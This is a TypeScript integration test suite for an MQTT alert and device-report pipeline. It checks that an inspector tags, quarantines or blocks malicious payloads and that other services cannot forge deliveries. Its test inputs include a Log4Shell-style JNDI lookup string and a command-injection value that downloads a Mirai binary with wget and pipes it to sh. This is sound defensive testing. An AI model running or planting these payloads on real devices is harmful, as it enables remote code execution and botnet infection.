/** Nothing reaches a device that the inspector has not judged. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { headers } from "../../app/contract/headers.ts";
import { topics } from "../../app/contract/subjects.ts";
import type { NatsConnection } from "../../app/shared/nats.ts";
import type { Region } from "../../local/region.ts";
import { connectDevice, connectPublisher, type Inbox, registerDevice } from "../support/clients.ts";
import { connectAs, readStream } from "../support/stored.ts";
import { startTestRegion } from "../support/test-region.ts";

let region: Region;
let device: Inbox;
let publisher: Inbox;
let operator: NatsConnection;

beforeAll(async () => {
  region = await startTestRegion();
  const password = await registerDevice(region, "d1");
  device = await connectDevice(region, { clientId: "d1", password });
  await device.client.subscribeAsync(topics.alerts("d1"));
  publisher = await connectPublisher(region);
  operator = await connectAs(region, "operator");
});
afterAll(async () => {
  await Promise.all([device, publisher].map((inbox) => inbox?.client.endAsync(true)));
  await operator?.close();
  await region?.stop();
});

const publish = (payload: object, client = "d1") =>
  publisher.client.publishAsync(topics.alerts(client), JSON.stringify(payload), { qos: 1 });
const report = (payload: object) =>
  device.client.publishAsync(topics.reports("d1"), JSON.stringify(payload), { qos: 1 });
const delivered = () => device.received.map((m) => JSON.parse(m.payload).id);
const eventually = { timeout: 60_000 };

describe("an alert from upstream", () => {
  it("is delivered unchanged, and stored with the verdict", async () => {
    await publish({ id: "plain", message: "certificate expires" });
    await expect.poll(delivered, eventually).toContain("plain");
    const stored = await readStream(operator, "MQTT_ALERTS", "clients.d1.alerts");
    const found = stored.find((m) => JSON.parse(m.payload).id === "plain");
    expect(found?.header(headers.verdict)).toBe("allow");
    expect(found?.header(headers.origin)).toBe("upstream");
    expect(device.received.find((m) => m.payload.includes("plain"))?.payload).toBe(
      JSON.stringify({ id: "plain", message: "certificate expires" }),
    );
  });

  it("that quotes an attack is delivered, tagged, and an event", async () => {
    await publish({ id: "quoting", message: "blocked: ${jndi:ldap://198.51.100.7/a}" });
    await expect.poll(delivered, eventually).toContain("quoting");
    const stored = await readStream(operator, "MQTT_ALERTS", "clients.d1.alerts");
    const found = stored.find((m) => JSON.parse(m.payload).id === "quoting");
    expect(found?.header(headers.verdict)).toBe("tag");
    expect(found?.header(headers.findings)).not.toBe("");
    const events = await readStream(operator, "SECURITY_EVENTS", "events.pattern.d1");
    expect(events.map((m) => JSON.parse(m.payload))).toContainEqual(
      expect.objectContaining({ class_uid: 2004, type_uid: 200401 }),
    );
  });

  it("for a client that does not exist is quarantined", async () => {
    await publish({ id: "nobody" }, "stranger");
    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.upstream.stranger");
    await expect.poll(async () => (await quarantined()).length, eventually).toBe(1);
    expect(await readStream(operator, "MQTT_ALERTS", "clients.stranger.alerts")).toEqual([]);
  });

  it("does not reach the device while no inspector runs, and does when one is back", async () => {
    const inspectors = ["inspector-1", "inspector-2"].map((name) => region.process(name));
    await Promise.all(inspectors.map((each) => each.stop()));
    await publish({ id: "waiting" });
    const ingress = await connectAs(region, "inspector");
    await expect
      .poll(
        async () => (await readStream(ingress, "INGRESS")).map((m) => m.payload).join(),
        eventually,
      )
      .toContain("waiting");
    expect(delivered()).not.toContain("waiting");
    await Promise.all(inspectors.map((each) => each.start()));
    await expect.poll(delivered, eventually).toContain("waiting");
    await ingress.close();
  });
});

describe("a report from a device", () => {
  it("that is harmless is stored in REPORTS", async () => {
    await report({ event: "heartbeat", uptime: 7 });
    const stored = async () =>
      (await readStream(operator, "REPORTS", "reports.d1")).map((m) => m.payload);
    await expect.poll(stored, eventually).toContain('{"event":"heartbeat","uptime":7}');
  });

  it("that carries an attack is quarantined and never in REPORTS", async () => {
    await report({
      event: "config",
      command: "; wget http://203.0.113.9/bins/mirai.arm7 -O- | sh",
    });
    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.device.d1");
    await expect.poll(async () => (await quarantined()).length, eventually).toBe(1);
    const [held] = await quarantined();
    expect(["quarantine", "deny"]).toContain(held?.header(headers.verdict));
    const passed = await readStream(operator, "REPORTS", "reports.d1");
    expect(passed.map((m) => m.payload).join()).not.toContain("mirai");
  });
});

it("lets no service but the inspector write what devices get", async () => {
  const before = device.received.length;
  for (const user of ["bridge", "operator", "auth", "console", "provision-core"]) {
    const connection = await connectAs(region, user);
    for (const subject of ["clients.d1.alerts", "deliver.d1.alerts"]) {
      connection.publish(subject, JSON.stringify({ id: `forged by ${user}` }));
    }
    await connection.flush();
    await connection.close();
  }
  await publish({ id: "the next" });
  await expect.poll(delivered, eventually).toContain("the next");
  expect(device.received.slice(before).map((m) => JSON.parse(m.payload).id)).toEqual(["the next"]);
});
